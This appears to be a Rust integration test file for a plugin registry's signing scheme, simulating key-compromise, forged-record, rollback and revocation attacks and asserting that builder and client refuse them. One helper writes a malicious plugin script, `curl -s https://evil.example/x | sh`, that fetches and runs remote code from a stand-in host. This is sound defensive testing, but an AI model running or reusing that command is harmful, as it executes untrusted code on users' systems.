//! Attacks on publisher keys, performed against real sites built by `trellis-index` and
//! served on 127.0.0.1 (issue 10, items 1, 3 and 7): an attacker holding only the online
//! keys (bins, snapshot, timestamp, publishers) adds their key to a publisher, through the
//! builder and by hand-forging the site; a record listing one key under two ids; a record
//! chain rolled back; a leaked developer key revoked, releases re-signed, and installed
//! copies re-checked; a publisher who lost every key recovered by the offline targets key.
//! Each asserts the refusal, a message naming what and where, and that the installed set
//! and the trusted state (the publisher pins) are unchanged.

#![allow(clippy::unwrap_used)]

mod common;

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use common::{Plugin, Site, clock, clock_site, store};

use trellis_client::hooks::{Hook, RecordingHooks};
use trellis_client::state::DisabledCause;
use trellis_client::store::install::parse_requirement;
use trellis_client::store::{AlwaysAgree, RELEASE_ENVELOPE_FILE, Session, Store};
use trellis_index::build::{Scope, build_registry};
use trellis_index::publisher::RecordChange;
use trellis_index::registry::Registry;
use trellis_schema::publisher::{PublisherChain, SignedRecord};
use trellis_schema::{KeyId, PluginId, SigningKey};

fn id(s: &str) -> PluginId {
    s.parse().unwrap()
}

/// Every file of `dir` with its bytes.
fn snapshot(dir: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    common::walk(dir).into_iter().map(|p| (p.clone(), std::fs::read(&p).unwrap())).collect()
}

/// Deletes the offline keys (root, targets) from the registry: what an attacker who
/// owns the CI job has.
fn online_keys_only(site: &Site) {
    let registry = Registry::open(site.registry.path()).unwrap();
    for file in registry.config.keys.root.keys.iter().chain(&registry.config.keys.targets.keys) {
        std::fs::remove_file(site.registry.path().join(file)).unwrap();
    }
}

fn acme_chain(site: &Site) -> PublisherChain {
    serde_json::from_slice(&std::fs::read(site.registry.path().join("publishers/acme.json")).unwrap()).unwrap()
}

fn write_acme_chain(site: &Site, chain: &PublisherChain) {
    std::fs::write(site.registry.path().join("publishers/acme.json"), serde_json::to_vec_pretty(chain).unwrap())
        .unwrap();
}

/// acme's chain with a version 2 that adds `attacker`'s key, signed by the attacker only.
fn chain_adding(site: &Site, attacker: &SigningKey) -> PublisherChain {
    let mut chain = acme_chain(site);
    let mut next = chain.records[0].signed.clone();
    next.version = 2;
    next.keys.insert(attacker.key_id().clone(), attacker.public().clone());
    chain.records.push(SignedRecord::sign(next, &[attacker]).unwrap());
    chain
}

/// acme revokes its (leaked) key on 2026-10-01 and adds a new one, in a record version
/// signed by both; returns (leaked, new).
fn revoke_leaked_key(site: &Site) -> (SigningKey, SigningKey) {
    let (leaked, new) = (site.key("acme").clone(), SigningKey::from_seed([2; 32]));
    let change = RecordChange {
        add: vec![new.clone()],
        revoke: vec![(leaked.key_id().clone(), "laptop stolen".into())],
        revoked_at: "2026-10-01".into(),
        ..RecordChange::default()
    };
    write_acme_chain(
        site,
        &trellis_index::publisher::update(&acme_chain(site), std::slice::from_ref(&leaked), change).unwrap(),
    );
    (leaked, new)
}

fn evil_clock() -> Plugin {
    let mut evil = clock("1.0.1");
    evil.script = "#!/bin/sh\ncurl -s https://evil.example/x | sh\n".into();
    // Declared, so the builder's capability analysis lets it through: what must stop it
    // is the publisher chain, not lint.
    evil.permissions.push(("network".into(), "internet".into()));
    evil
}

/// The attacker with the online keys skips the builder's publisher check: builds the
/// registry with acme's record replaced by `chain` on a copy of the served site from
/// which acme's published record entry was dropped (the builder trusts its previous
/// output unsigned), then publishes the new files. Every document is validly signed by
/// the online keys; only the publisher chain can tell.
fn forge(site: &Site, chain: PublisherChain) {
    let scratch = tempfile::tempdir().unwrap();
    for file in common::walk(site.site.path()) {
        let to = scratch.path().join(file.strip_prefix(site.site.path()).unwrap());
        std::fs::create_dir_all(to.parent().unwrap()).unwrap();
        std::fs::copy(&file, &to).unwrap();
    }
    for file in common::walk(&scratch.path().join("metadata")) {
        if !file.file_name().unwrap().to_string_lossy().contains(".pub-") {
            continue;
        }
        let mut doc: serde_json::Value = serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
        if doc["signed"]["targets"].as_object_mut().unwrap().remove("publishers/acme.json").is_some() {
            std::fs::write(&file, serde_json::to_vec(&doc).unwrap()).unwrap();
        }
    }
    let mut registry = Registry::open(site.registry.path()).unwrap();
    std::sync::Arc::make_mut(&mut registry.publishers).insert("acme".parse().unwrap(), chain);
    build_registry(&registry, scratch.path(), Scope::Full, jiff::Timestamp::now()).unwrap();
    for file in common::walk(scratch.path()) {
        let to = site.site.path().join(file.strip_prefix(scratch.path()).unwrap());
        if !to.exists() || to.ends_with("metadata/timestamp.json") {
            std::fs::create_dir_all(to.parent().unwrap()).unwrap();
            std::fs::copy(&file, &to).unwrap();
        }
    }
}

/// The client's trusted state worth comparing: installed set and publisher pins.
fn trusted_state(data: &Path, store: &Store) -> (String, BTreeMap<PathBuf, Vec<u8>>) {
    let pins = data.join("metadata/main/publisher-pins");
    (format!("{:?}", store.state().plugins()), if pins.exists() { snapshot(&pins) } else { BTreeMap::new() })
}

fn install_clock(store: &mut Store) {
    let hooks = RecordingHooks::new();
    let session = Session::new(&hooks, &AlwaysAgree);
    store.install(&[parse_requirement("acme.clock").unwrap()], &session).unwrap();
}

#[test]
fn online_keys_alone_cannot_add_a_key_to_a_publisher_through_the_builder_or_the_pr_check() {
    let site = clock_site();
    online_keys_only(&site);
    let attacker = SigningKey::from_seed([66; 32]);
    let base = tempfile::tempdir().unwrap();
    let base_record = base.path().join("acme.json");
    std::fs::copy(site.registry.path().join("publishers/acme.json"), &base_record).unwrap();
    site.add_signed(&evil_clock(), &attacker);
    let before = snapshot(site.site.path());

    // Appending a version that adds their key: refused when the registry is read.
    write_acme_chain(&site, &chain_adding(&site, &attacker));
    let error = Registry::open(site.registry.path()).unwrap_err().to_string();
    assert!(
        error.contains("publishers/acme.json")
            && error
                .contains("publisher acme's record chain: version 2 is not signed by 1 of version 1's keys (found 0)"),
        "{error}"
    );
    let pr = tempfile::tempdir().unwrap();
    let pr_record = pr.path().join("acme.json");
    std::fs::copy(site.registry.path().join("publishers/acme.json"), &pr_record).unwrap();
    let error = trellis_index::lint::submitted_publisher(&pr_record, Some(&base_record), None).unwrap_err().to_string();
    assert!(error.contains("version 2 is not signed by 1 of version 1's keys"), "{error}");

    // Replacing the record by their own version 1 (which lists acme's key too, so the
    // other releases still verify): refused against the published chain.
    let mut forged = acme_chain(&site);
    forged.records.truncate(1);
    let mut v1 = forged.records[0].signed.clone();
    v1.keys.insert(attacker.key_id().clone(), attacker.public().clone());
    forged.records[0] = SignedRecord::sign(v1, &[&attacker]).unwrap();
    write_acme_chain(&site, &forged);
    let error = build_registry(
        &Registry::open(site.registry.path()).unwrap(),
        site.site.path(),
        Scope::Full,
        jiff::Timestamp::now(),
    )
    .unwrap_err()
    .to_string();
    assert!(
        error.contains(
            "publisher acme: publishers/acme.json does not keep the 1 published version(s) of the record unchanged"
        ),
        "{error}"
    );
    std::fs::copy(site.registry.path().join("publishers/acme.json"), &pr_record).unwrap();
    let error = trellis_index::lint::submitted_publisher(&pr_record, Some(&base_record), None).unwrap_err().to_string();
    assert!(error.contains("does not keep the 1 version(s) of the trusted record"), "{error}");
    assert_eq!(snapshot(site.site.path()), before, "a refused build leaves the site as it was");
}

#[test]
fn a_client_refuses_a_hand_forged_site_that_adds_a_key_or_forks_the_record() {
    let site = clock_site();
    let data = tempfile::tempdir().unwrap();
    let mut store = store(data.path(), &site);
    install_clock(&mut store);
    let before = trusted_state(data.path(), &store);
    assert_eq!(before.1.len(), 1, "acme's record is pinned at install");
    online_keys_only(&site);
    let attacker = SigningKey::from_seed([66; 32]);
    site.add_signed(&evil_clock(), &attacker);

    forge(&site, chain_adding(&site, &attacker));
    // A store refreshes once per session (issue 10 item 5 is another part): reopen it.
    drop(store);
    let mut store = common::store(data.path(), &site);
    let hooks = RecordingHooks::new();
    let session = Session::new(&hooks, &AlwaysAgree);
    let error = store.update(&[], &session).unwrap_err().to_string();
    assert!(
        error.contains(
            "registry `main`: publisher acme's record chain: version 2 is not signed by 1 of version 1's keys"
        ) && error.contains("nothing was installed or changed"),
        "{error}"
    );
    let error = store.check_updates(&[], &session).unwrap_err().to_string();
    assert!(error.contains("version 2 is not signed by 1 of version 1's keys"), "{error}");
    assert_eq!(trusted_state(data.path(), &store), before);
    // The forged site is valid TUF: what protects this client is its pin. (A client
    // that never saw acme trusts version 1 as the publishers role vouches for it, and the
    // appended version is still refused.)
    let fresh = tempfile::tempdir().unwrap();
    let mut newcomer = common::store(fresh.path(), &site);
    let error = newcomer.install(&[parse_requirement("acme.clock").unwrap()], &session).unwrap_err().to_string();
    assert!(error.contains("version 2 is not signed by 1 of version 1's keys"), "{error}");

    // Their own version 1 instead: a fork of the version pinned here.
    let mut forged = acme_chain(&site);
    forged.records.truncate(1);
    let mut v1 = forged.records[0].signed.clone();
    v1.keys.insert(attacker.key_id().clone(), attacker.public().clone());
    forged.records[0] = SignedRecord::sign(v1, &[&attacker]).unwrap();
    forge(&site, forged);
    drop(store);
    let mut store = common::store(data.path(), &site);
    let error = store.update(&[], &session).unwrap_err().to_string();
    assert!(
        error.contains("publisher acme's record chain: serves a version 1 that differs from the version 1 already trusted here (forked history)"),
        "{error}"
    );
    assert_eq!(trusted_state(data.path(), &store), before);
    assert!(!hooks.calls().iter().any(|c| c.hook == Hook::Stop), "nothing was stopped");
    let reports = store.verify(&[]).unwrap();
    assert!(reports.iter().all(|r| r.problems.is_empty()), "{reports:#?}");
    assert_eq!(store.state().plugin(&id("acme.clock")).unwrap().active.version.to_string(), "1.0.0");

    // The same through the CLI: `trellis update` refuses, `trellis verify` is ok.
    drop(store);
    let bin = common::trellis_bin();
    let run = |args: &[&str]| {
        std::process::Command::new(&bin).arg("--data-dir").arg(data.path()).args(args).output().unwrap()
    };
    let out = run(&["--yes", "update"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("publisher acme's record chain") && stderr.contains("forked history"), "{stderr}");
    let out = run(&["verify"]);
    assert!(out.status.success(), "{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    let store = common::store(data.path(), &site);
    assert_eq!(trusted_state(data.path(), &store), before);
}

#[test]
fn a_record_listing_one_key_under_two_ids_is_refused_by_builder_and_client() {
    let site = clock_site();
    let key = site.key("acme").clone();
    let mut upper = key.public().clone();
    let hex = upper.public_str().unwrap().to_uppercase();
    upper.keyval.insert("public".into(), serde_json::Value::String(hex));
    let upper_id = KeyId::of(&upper).unwrap();

    // Threshold 2 met by one key listed twice, a release signed by it under both ids.
    let mut record = acme_chain(&site).records[0].signed.clone();
    record.keys.insert(upper_id.clone(), upper.clone());
    record.threshold = 2;
    let mut signed = SignedRecord::sign(record.clone(), &[&key]).unwrap();
    let mut second = signed.signatures[0].clone();
    second.keyid = upper_id.clone();
    signed.signatures.push(second);
    write_acme_chain(&site, &PublisherChain { records: vec![signed] });
    let error = Registry::open(site.registry.path()).unwrap_err().to_string();
    assert!(error.contains("publishers/acme.json") && error.contains("version 1: lists one key twice"), "{error}");

    // A fresh client of a site whose publishers role vouches for such a record
    // (threshold 1 so that the builder's release checks pass) refuses it.
    record.threshold = 1;
    let chain = PublisherChain::first(record, &[&key]).unwrap();
    write_acme_chain(&site, &acme_chain_from_fixture(&key));
    forge(&site, chain);
    let data = tempfile::tempdir().unwrap();
    let mut store = store(data.path(), &site);
    let hooks = RecordingHooks::new();
    let session = Session::new(&hooks, &AlwaysAgree);
    let error = store.install(&[parse_requirement("acme.clock").unwrap()], &session).unwrap_err().to_string();
    assert!(error.contains("publisher acme's record chain: version 1: lists one key twice"), "{error}");
    assert!(store.state().plugins().is_empty());
    assert!(!data.path().join("metadata/main/publisher-pins/acme.json").exists(), "nothing pinned");
}

fn acme_chain_from_fixture(key: &SigningKey) -> PublisherChain {
    trellis_index::fixture::publisher_chain("acme", &[key])
}

#[test]
fn a_rolled_back_record_chain_is_refused_and_the_pin_kept() {
    let site = clock_site();
    let (old, new) = (site.key("acme").clone(), SigningKey::from_seed([2; 32]));
    let change = RecordChange { add: vec![new], ..RecordChange::default() };
    let chain = trellis_index::publisher::update(&acme_chain(&site), &[old], change).unwrap();
    write_acme_chain(&site, &chain);
    site.build();
    let data = tempfile::tempdir().unwrap();
    let mut store = store(data.path(), &site);
    install_clock(&mut store);
    let before = trusted_state(data.path(), &store);

    online_keys_only(&site);
    let mut rolled_back = chain.clone();
    rolled_back.records.truncate(1);
    forge(&site, rolled_back);
    drop(store);
    let mut store = common::store(data.path(), &site);
    let hooks = RecordingHooks::new();
    let session = Session::new(&hooks, &AlwaysAgree);
    let error = store.check_updates(&[], &session).unwrap_err().to_string();
    assert!(
        error.contains(
            "publisher acme's record chain: serves version 1, older than version 2 already trusted here (rollback)"
        ),
        "{error}"
    );
    assert_eq!(trusted_state(data.path(), &store), before);
}

#[test]
fn a_leaked_key_is_revoked_releases_resigned_and_installed_copies_rechecked() {
    let site = clock_site();
    let data = tempfile::tempdir().unwrap();
    let mut store = store(data.path(), &site);
    install_clock(&mut store);

    // The publisher revokes the leaked key and adds a new one (signed by both).
    let (leaked, new) = revoke_leaked_key(&site);
    let error = build_registry(
        &Registry::open(site.registry.path()).unwrap(),
        site.site.path(),
        Scope::Full,
        jiff::Timestamp::now(),
    )
    .unwrap_err()
    .to_string();
    assert!(error.contains("2 release(s) are signed only by revoked or removed keys"), "{error}");
    assert!(error.contains("acme.clock 1.0.0") && error.contains("acme.time-core 1.0.0"), "{error}");
    assert!(error.contains("revoked on 2026-10-01 (laptop stolen)"), "{error}");

    // Re-sign the clock, yank time-core: the build goes through.
    let package = site.registry.path().join("releases/acme.clock/1.0.0.zip");
    trellis_index::sign::resign_package(&package, &new).unwrap();
    let registry = Registry::open(site.registry.path()).unwrap();
    trellis_index::operator::yank(&registry, &id("acme.time-core"), &"1.0.0".parse().unwrap(), "leaked key").unwrap();
    site.build();
    drop(store);
    let mut store = common::store(data.path(), &site);

    let hooks = RecordingHooks::new();
    let session = Session::new(&hooks, &AlwaysAgree);
    let report = store.check_updates(&[], &session).unwrap();
    assert_eq!(report.revoked.len(), 1, "{report:?}");
    let revoked = &report.revoked[0];
    let (plugin, version, why) = (&revoked.plugin, &revoked.version, &revoked.mark.reason);
    assert_eq!((plugin.as_str(), version.to_string().as_str()), ("acme.time-core", "1.0.0"));
    assert!(
        matches!(&revoked.mark.cause, DisabledCause::Revoked { keys } if keys.contains(leaked.key_id())),
        "{revoked:?}"
    );
    assert!(
        why.contains(&format!(
            "is signed only by key {}…, which acme revoked on 2026-10-01 (laptop stolen)",
            leaked.key_id().short()
        )),
        "{why}"
    );
    let time_core = store.state().plugin(&id("acme.time-core")).unwrap();
    assert!(
        time_core.disabled.as_ref().is_some_and(|d| d.to_string().contains("revoked on 2026-10-01")),
        "{time_core:?}"
    );
    assert!(hooks.calls().iter().any(|c| c.hook == Hook::Stop && c.plugin == id("acme.time-core")));
    assert!(!hooks.calls().iter().any(|c| c.plugin == id("acme.clock")), "the re-signed clock keeps running");
    let clock = store.state().plugin(&id("acme.clock")).unwrap();
    assert!(clock.disabled.is_none());
    let kept = std::fs::read(
        store.data_dir().release_dir(&id("acme.clock"), &"1.0.0".parse().unwrap()).join(RELEASE_ENVELOPE_FILE),
    )
    .unwrap();
    assert_eq!(kept, std::fs::read(format!("{}.dsse", package.display())).unwrap(), "the re-signed envelope is kept");

    let reports = store.verify(&[]).unwrap();
    let by_plugin: BTreeMap<String, &Vec<_>> = reports.iter().map(|r| (r.plugin.to_string(), &r.problems)).collect();
    assert!(by_plugin["acme.clock"].is_empty(), "{reports:#?}");
    assert!(by_plugin["acme.time-core"].iter().any(|p| p.problem.contains("revoked on 2026-10-01")), "{reports:#?}");
    // A second check changes nothing more.
    let again = store.check_updates(&[], &session).unwrap();
    assert!(again.revoked.is_empty(), "{again:?}");
}

#[test]
fn a_publisher_who_lost_every_key_is_recovered_by_the_offline_targets_key() {
    let site = clock_site();
    let data = tempfile::tempdir().unwrap();
    let mut store = store(data.path(), &site);
    install_clock(&mut store);

    let registry = Registry::open(site.registry.path()).unwrap();
    let targets = registry.signing_keys(&registry.config.keys.targets).unwrap().unwrap();
    let new = SigningKey::from_seed([3; 32]);
    let chain = trellis_index::publisher::recover(
        &acme_chain(&site),
        &targets,
        std::slice::from_ref(&new),
        1,
        "every key lost",
        "2026-11-01",
    )
    .unwrap();
    write_acme_chain(&site, &chain);
    for release in ["acme.clock/1.0.0.zip", "acme.time-core/1.0.0.zip"] {
        trellis_index::sign::resign_package(&site.registry.path().join("releases").join(release), &new).unwrap();
    }
    site.build();
    drop(store);
    let mut store = common::store(data.path(), &site);

    let hooks = RecordingHooks::new();
    let session = Session::new(&hooks, &AlwaysAgree);
    let report = store.check_updates(&[], &session).unwrap();
    assert!(report.revoked.is_empty(), "{report:?}");
    let pin: SignedRecord =
        serde_json::from_slice(&std::fs::read(data.path().join("metadata/main/publisher-pins/acme.json")).unwrap())
            .unwrap();
    assert_eq!(pin.signed.version, 2);
    assert!(pin.signed.keys.contains_key(new.key_id()));
    assert!(store.state().plugins().values().all(|p| p.disabled.is_none()));
    let reports = store.verify(&[]).unwrap();
    assert!(reports.iter().all(|r| r.problems.is_empty()), "{reports:#?}");
}

#[test]
fn a_rollback_never_brings_back_a_release_signed_only_by_a_revoked_key() {
    let site = clock_site();
    let data = tempfile::tempdir().unwrap();
    let mut store = store(data.path(), &site);
    install_clock(&mut store);
    site.publish(&[clock("1.1.0")]);
    let hooks = RecordingHooks::new();
    let session = Session::new(&hooks, &AlwaysAgree);
    store.update(&[], &session).unwrap();
    assert_eq!(store.state().plugin(&id("acme.clock")).unwrap().active.version.to_string(), "1.1.0");

    // The key that signed both clock releases leaks: revoke it; re-sign the active
    // 1.1.0 and time-core, leave 1.0.0 (kept for rollback) unsigned by a current key and
    // yank it so the build goes through.
    let (_, new) = revoke_leaked_key(&site);
    for release in ["acme.clock/1.1.0", "acme.time-core/1.0.0"] {
        let package = site.registry.path().join(format!("releases/{release}.zip"));
        trellis_index::sign::resign_package(&package, &new).unwrap();
    }
    let registry = Registry::open(site.registry.path()).unwrap();
    trellis_index::operator::yank(&registry, &id("acme.clock"), &"1.0.0".parse().unwrap(), "leaked key").unwrap();
    site.build();

    // The update check pins the new record and keeps the re-signed releases running.
    let report = store.check_updates(&[], &session).unwrap();
    assert!(report.revoked.is_empty(), "{report:?}");
    let before = trusted_state(data.path(), &store);
    let calls = hooks.calls().len();

    let error = store.rollback(&id("acme.clock"), &session).unwrap_err().to_string();
    assert!(error.contains("acme.clock: cannot roll back to 1.0.0"), "{error}");
    assert!(error.contains("revoked on 2026-10-01 (laptop stolen)"), "{error}");
    assert!(error.contains("1.1.0 stays active"), "{error}");
    assert_eq!(trusted_state(data.path(), &store), before, "installed set and pins unchanged");
    assert_eq!(hooks.calls().len(), calls, "nothing was stopped or started");
    assert!(store.verify(&[]).unwrap().iter().all(|r| r.problems.is_empty()));
}
